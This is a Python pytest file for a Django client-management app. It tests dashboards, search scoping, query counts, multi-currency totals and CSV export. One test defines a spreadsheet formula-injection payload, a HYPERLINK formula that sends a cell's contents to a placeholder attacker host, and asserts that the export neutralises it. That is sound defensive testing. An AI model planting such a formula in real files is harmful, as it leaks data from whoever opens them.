import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from clients.models import Client, ClientStatus, Contact
from core.money import MoneyTotals
from flags.models import Flag
from health.models import HealthModel, HealthScore
from interactions.models import FollowUp
from tests.factories import ClientFactory, ContactFactory

pytestmark = pytest.mark.django_db


def _portfolio(owner, count, today, *, with_scores=True):
    """``count`` clients for ``owner`` with a score today and 14 days ago, a flag, a follow-up and a contact."""
    model = HealthModel.objects.create(version=1, components=[{"kind": "engagement", "weight": 1}], is_active=True)
    clients = Client.objects.bulk_create(
        Client(
            name=f"Acme {owner.username} {i:04d}",
            external_id=f"{owner.username}-{i}",
            status=ClientStatus.ACTIVE,
            owner=owner,
            team=owner.team,
            arr=Decimal(10_000 + i),
            renewal_date=today + dt.timedelta(days=10 + i % 80),
            contact_due_on=today - dt.timedelta(days=i % 5),
            contact_cadence_days=14,
        )
        for i in range(count)
    )
    if with_scores:
        HealthScore.objects.bulk_create(
            HealthScore(client=c, date=day, model=model, score=s, band=b, coverage=1, components=[])
            for c in clients
            for day, s, b in ((today, 35.0, "red"), (today - dt.timedelta(days=14), 70.0, "green"))
        )
    Flag.objects.bulk_create(
        Flag(client=c, title="Orders falling", severity=3, assigned_to=owner, evidence="x", opened_on=today,
             last_seen_on=today)
        for c in clients
    )  # fmt: skip
    FollowUp.objects.bulk_create(
        FollowUp(client=c, owner=owner, title="Call back", due_date=today - dt.timedelta(days=1)) for c in clients
    )
    Contact.objects.bulk_create(
        Contact(client=c, first_name="Pat", last_name=f"Buyer{i}", email=f"pat{i}@example.com")
        for i, c in enumerate(clients)
    )
    return clients


@pytest.mark.parametrize("size", [5, 200])
def test_my_day_constant_queries_and_capped_flags(client, am_alice, size, django_assert_max_num_queries):
    today = timezone.localdate()
    _portfolio(am_alice, size, today)
    client.force_login(am_alice)
    with django_assert_max_num_queries(14):
        response = client.get("/my-day/")
    day = response.context["day"]
    assert len(day.lines) == min(8, size) and day.more_lines == max(0, size - 8)
    assert len({line.client.pk for line in day.lines}) == len(day.lines)  # one line per client
    assert len(day.followups_overdue) == min(50, size)
    assert day.bands == [("red", size, MoneyTotals({"EUR": sum(10_000 + i for i in range(size))}))]


def test_my_day_ranks_by_severity_money_and_renewal(client, am_alice):
    today = timezone.localdate()
    small = ClientFactory(owner=am_alice, team=am_alice.team, arr=Decimal(5_000), renewal_date=None)
    big = ClientFactory(owner=am_alice, team=am_alice.team, arr=Decimal(900_000), renewal_date=None)
    renewing = ClientFactory(owner=am_alice, team=am_alice.team, arr=Decimal(5_000), renewal_date=today)
    for c, severity in ((small, 4), (big, 3), (renewing, 3)):
        Flag.objects.create(client=c, title="x", severity=severity, assigned_to=am_alice, evidence="x",
                            opened_on=today, last_seen_on=today)  # fmt: skip
    client.force_login(am_alice)
    order = [line.client for line in client.get("/my-day/").context["day"].lines]
    assert order == [big, small, renewing]


@pytest.mark.parametrize("size", [5, 200])
def test_portfolio_constant_queries(client, lead_lena, am_alice, am_bob, size, django_assert_max_num_queries):
    today = timezone.localdate()
    _portfolio(am_alice, size, today)
    _portfolio_more = ClientFactory(owner=am_bob, team=am_bob.team)
    client.force_login(lead_lena)
    with django_assert_max_num_queries(19):  # one of them reads the riskiest 20's components (their words)
        response = client.get("/portfolio/")
    view = response.context["view"]
    assert view.clients == size + 1
    alice = next(row for row in view.per_am if row.owner_id == am_alice.pk)
    assert (alice.clients, alice.open_flags, alice.overdue_followups) == (size, size, size)
    assert view.bands[0][:2] == ("red", size)
    assert len(view.riskiest) == min(20, size)
    assert _portfolio_more.pk not in {s.client_id for s in view.riskiest}


def test_portfolio_point_in_time(client, lead_lena, am_alice):
    today = timezone.localdate()
    _portfolio(am_alice, 3, today)
    client.force_login(lead_lena)
    past = client.get(f"/portfolio/?as_of={(today - dt.timedelta(days=14)).isoformat()}").context["view"]
    assert [band for band, *_ in past.bands] == ["green"]  # the scores as they were
    assert past.open_flags == 0  # the flags opened today did not exist yet
    assert client.get(f"/portfolio/?as_of={(today + dt.timedelta(days=3)).isoformat()}").context["form"].errors


def test_portfolio_filters_and_access(client, lead_lena, am_alice, am_oscar, admin_ada):
    today = timezone.localdate()
    _portfolio(am_alice, 3, today)
    ClientFactory(owner=am_oscar, team=am_oscar.team)
    client.force_login(am_alice)
    assert client.get("/portfolio/").status_code == 403
    client.force_login(lead_lena)
    view = client.get(f"/portfolio/?owner={am_alice.pk}&segment=enterprise").context["view"]
    assert view.clients == 0
    client.force_login(admin_ada)
    assert client.get("/portfolio/").context["view"].clients == 4


def test_home_sends_everyone_to_their_page(client, personas):
    expected = {
        "am_alice": "/my-day/",
        "am_bob": "/my-day/",
        "am_oscar": "/my-day/",
        "lead_lena": "/portfolio/",
        "admin_ada": "/portfolio/",
        "sales_sam": "/clients/",
    }
    for name, user in personas.items():
        client.force_login(user)
        assert client.get("/")["Location"] == expected[name], name


def test_search_finds_clients_and_contacts_within_the_portfolio(client, am_alice, am_oscar, alice_client):
    ContactFactory(client=alice_client, first_name="Marta", last_name="Quist", email="marta@nordwind.example")
    hidden = ClientFactory(name="Nordwind Secret", owner=am_oscar, team=am_oscar.team)
    client.force_login(am_alice)
    response = client.get("/search/?q=nordwind", HTTP_HX_REQUEST="true")
    assert [c.pk for c in response.context["clients"]] == [alice_client.pk]
    assert hidden.name not in response.content.decode()
    by_mail = client.get("/search/?q=marta@nordwind").context["contacts"]
    assert [c.last_name for c in by_mail] == ["Quist"]
    assert client.get(f"/search/?q={alice_client.external_id}").context["clients"] == [alice_client]
    assert client.get("/search/?q=m").context["clients"] == []


@pytest.mark.parametrize("size", [5, 200])
def test_search_constant_queries(client, am_alice, size, django_assert_max_num_queries):
    _portfolio(am_alice, size, timezone.localdate(), with_scores=False)
    client.force_login(am_alice)
    with django_assert_max_num_queries(5):
        response = client.get("/search/?q=acme", HTTP_HX_REQUEST="true")
    assert len(response.context["clients"]) == min(8, size)


def test_csv_export_of_a_filtered_list(client, am_alice, am_oscar):
    today = timezone.localdate()
    clients = _portfolio(am_alice, 3, today)
    ClientFactory(owner=am_oscar, team=am_oscar.team, name="Other team")
    client.force_login(am_alice)
    response = client.get(f"/clients/export.csv?scope=team&q={clients[1].name}")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["name", "external_id", "owner", "owner_email"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["name"], row["health_score"], row["health_band"]) == (clients[1].name, "35", "red")
    assert row["contact_emails"] == "pat1@example.com"
    everything = b"".join(client.get("/clients/export.csv?scope=team").streaming_content).decode()
    assert "Other team" not in everything and everything.count("\n") == 4


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_csv_export_neutralises_formulas(client, am_alice):
    ClientFactory(name=FORMULA, external_id="+1-CMD", owner=am_alice, team=am_alice.team)
    ClientFactory(name="@SUM(A1:A9)", external_id="-2+3", owner=am_alice, team=am_alice.team)
    ClientFactory(name="\tTabbed", external_id="\rReturn", owner=am_alice, team=am_alice.team)
    client.force_login(am_alice)
    response = client.get("/clients/export.csv?scope=mine")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    cells = {(row[0], row[1]) for row in rows[1:]}
    assert cells == {
        ("'" + FORMULA, "'+1-CMD"),
        ("'@SUM(A1:A9)", "'-2+3"),
        ("'\tTabbed", "'\rReturn"),
    }


def test_totals_never_add_currencies(client, lead_lena, am_alice):
    today = timezone.localdate()
    model = HealthModel.objects.filter(is_active=True).first() or HealthModel.objects.create(
        version=1, components=[], is_active=True
    )
    euro = ClientFactory(owner=am_alice, team=am_alice.team, arr=Decimal(100_000), currency="EUR")
    yen = ClientFactory(owner=am_alice, team=am_alice.team, arr=Decimal(10_000_000), currency="JPY")
    for c in (euro, yen):
        HealthScore.objects.create(client=c, model=model, date=today, score=20, band="red", coverage=1, components=[])
    client.force_login(lead_lena)
    response = client.get("/portfolio/")
    view = response.context["view"]
    expected = MoneyTotals({"EUR": 100_000, "JPY": 10_000_000})
    assert view.arr_at_risk == expected and view.arr == expected
    alice = next(row for row in view.per_am if row.owner_id == am_alice.pk)
    assert alice.arr == expected
    page = response.content.decode()
    assert "100,000 EUR · 10,000,000 JPY" in page and "10,100,000" not in page
    client.force_login(am_alice)
    day = client.get("/my-day/").context["day"]
    assert day.bands == [("red", 2, expected)]
